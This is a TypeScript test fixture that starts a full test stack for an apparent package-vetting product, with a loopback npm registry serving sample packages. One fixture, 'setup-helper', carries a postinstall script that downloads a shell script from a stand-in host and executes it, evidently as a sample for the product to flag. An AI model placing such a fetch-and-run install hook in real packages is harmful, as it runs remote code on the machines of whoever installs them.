import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createUser, upsertAdvisories, type Role } from '@spm/db';
import { createTestDatabase, type TestDatabase } from '@spm/db/testing';
import { buildPackage, startTestRegistry, type BuiltPackage, type TestRegistry } from '@spm/testkit';
import { buildApp, loadConfig } from '../../apps/api/src/app.js';

/*
 * The product for the browser and CLI tests, all of it real: PostgreSQL, the API serving the built web app, a
 * worker process from its build, and an npm registry on loopback serving real tarballs (one with an
 * install script that uses the network and a shell, one with a known vulnerability).
 */

export const root = resolve(fileURLToPath(new URL('../../', import.meta.url)));
export const webRoot = join(root, 'apps/web/dist');
const workerMain = join(root, 'apps/worker/dist/main.js');

export const PASSWORD = 'browser-test-password-1';
export const USERS: Record<Role, string> = { user: 'dana-dev', approver: 'alex-approver', admin: 'sam-admin' };

export const packages: BuiltPackage[] = [
  buildPackage({ name: 'left-align', version: '1.4.0' }),
  buildPackage({ name: '@acme/util', version: '0.2.1', manifest: { license: 'Apache-2.0' } }),
  buildPackage({
    name: 'setup-helper',
    version: '3.1.0',
    manifest: { license: 'ISC', scripts: { postinstall: 'node setup.js' } },
    files: {
      'setup.js':
        "const https = require('https');\nconst { exec } = require('child_process');\n" +
        "https.get('https://downloads.example.test/tool.sh', (res) => exec('sh ./tool.sh'));\n",
    },
  }),
  buildPackage({ name: 'old-parser', version: '2.0.0', manifest: { license: 'MIT' } }),
  buildPackage({ name: 'weak-copyleft', version: '1.0.0', manifest: { license: 'MPL-2.0' } }),
];

/** The advisory that makes old-parser@2.0.0 vulnerable (fixed in 2.1.0). */
export const ADVISORY = 'GHSA-wxyz-1234-abcd';

/** A package-lock.json v3 of the packages above, resolved from the loopback registry. */
export function lockfile(registryUrl: string): string {
  const entries = Object.fromEntries(
    packages.map((p) => [
      `node_modules/${p.name}`,
      {
        version: p.version,
        resolved: `${registryUrl}${p.name}/-/${p.name.split('/').pop()}-${p.version}.tgz`,
        integrity: p.integrity,
        license: p.manifest.license,
      },
    ]),
  );
  const deps = Object.fromEntries(packages.map((p) => [p.name, p.version]));
  return JSON.stringify(
    {
      name: 'storefront',
      version: '4.2.0',
      lockfileVersion: 3,
      requires: true,
      packages: { '': { name: 'storefront', version: '4.2.0', dependencies: deps }, ...entries },
    },
    null,
    2,
  );
}

/** A pnpm-lock.yaml (9.x) of left-align alone: the same package, another package manager. */
export function pnpmLockfile(): string {
  const p = packages.find((x) => x.name === 'left-align')!;
  return [
    "lockfileVersion: '9.0'",
    '',
    'settings:',
    '  autoInstallPeers: true',
    '  excludeLinksFromLockfile: false',
    '',
    'importers:',
    '',
    '  .:',
    '    dependencies:',
    `      ${p.name}:`,
    `        specifier: ${p.version}`,
    `        version: ${p.version}`,
    '',
    'packages:',
    '',
    `  ${p.name}@${p.version}:`,
    `    resolution: {integrity: ${p.integrity}}`,
    '',
    'snapshots:',
    '',
    `  ${p.name}@${p.version}: {}`,
    '',
  ].join('\n');
}

export interface Stack {
  url: string;
  tdb: TestDatabase;
  registry: TestRegistry;
  /** Starts the worker (the tests start it when they want to watch a request move). */
  startWorker(): void;
  workerLog(): string;
  close(): Promise<void>;
}

export async function startStack(): Promise<Stack> {
  for (const [what, file] of [
    ['the web app', join(webRoot, 'index.html')],
    ['the worker', workerMain],
  ] as const) {
    if (!existsSync(file)) throw new Error(`${file} is missing: run \`pnpm build\` (${what}) before the browser tests`);
  }
  const [tdb, registry] = await Promise.all([createTestDatabase(), startTestRegistry()]);
  for (const p of packages) registry.add(p);
  const cacheDir = await mkdtemp(join(tmpdir(), 'spm-browser-cache-'));
  for (const [role, username] of Object.entries(USERS) as Array<[Role, string]>) {
    await createUser(tdb.db, { username, password: PASSWORD, role });
  }
  await upsertAdvisories(tdb.db, [
    {
      id: ADVISORY,
      modified: new Date('2025-03-01T00:00:00Z'),
      published: new Date('2025-02-20T00:00:00Z'),
      withdrawn: null,
      aliases: ['CVE-2025-0042'],
      summary: 'Regular expression denial of service in old-parser',
      severity: 'high',
      cvssVector: null,
      malware: false,
      raw: {
        id: ADVISORY,
        summary: 'Regular expression denial of service in old-parser',
        references: [{ type: 'ADVISORY', url: `https://advisories.example.test/${ADVISORY}` }],
        database_specific: { severity: 'HIGH' },
      },
      affected: [
        {
          packageName: 'old-parser',
          ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '2.1.0' }] }],
          versions: [],
          fixedVersions: ['2.1.0'],
        },
      ],
    },
  ]);

  const config = loadConfig({
    NODE_ENV: 'test',
    DATABASE_URL: tdb.url,
    JWT_SECRET: 'browser-test-secret-that-is-long-enough-0123',
    PACKAGE_CACHE_DIR: cacheDir,
    WEB_ROOT: webRoot,
    LOG_LEVEL: 'warn',
    LOG_FORMAT: 'json',
  });
  const app = await buildApp(config, { logger: false });
  await app.listen({ host: '127.0.0.1', port: 0 });
  const url = `http://127.0.0.1:${(app.server.address() as { port: number }).port}`;

  let worker: ChildProcess | undefined;
  let log = '';
  return {
    url,
    tdb,
    registry,
    startWorker() {
      worker = spawn(process.execPath, [workerMain], {
        env: {
          ...process.env,
          DATABASE_URL: tdb.url,
          SOURCE_REGISTRY_URL: registry.url,
          PACKAGE_CACHE_DIR: cacheDir,
          TARGET_REGISTRY_URL: '',
          TRIVY_SERVER_URL: '',
          WORKER_SLEEP_INTERVAL: '0.5',
          WORKER_ID: 'browser-test-worker',
          LOG_LEVEL: 'info',
          LOG_FORMAT: 'json',
        },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      worker.stdout!.on('data', (d: Buffer) => (log += d.toString()));
      worker.stderr!.on('data', (d: Buffer) => (log += d.toString()));
    },
    workerLog: () => log.slice(-6000),
    async close() {
      if (worker && worker.exitCode === null) {
        const exited = new Promise((r) => worker!.once('exit', r));
        worker.kill('SIGTERM');
        const timer = setTimeout(() => worker!.kill('SIGKILL'), 15_000);
        await exited;
        clearTimeout(timer);
      }
      await app.close();
      await Promise.all([tdb.destroy(), registry.close(), rm(cacheDir, { recursive: true, force: true })]);
    },
  };
}
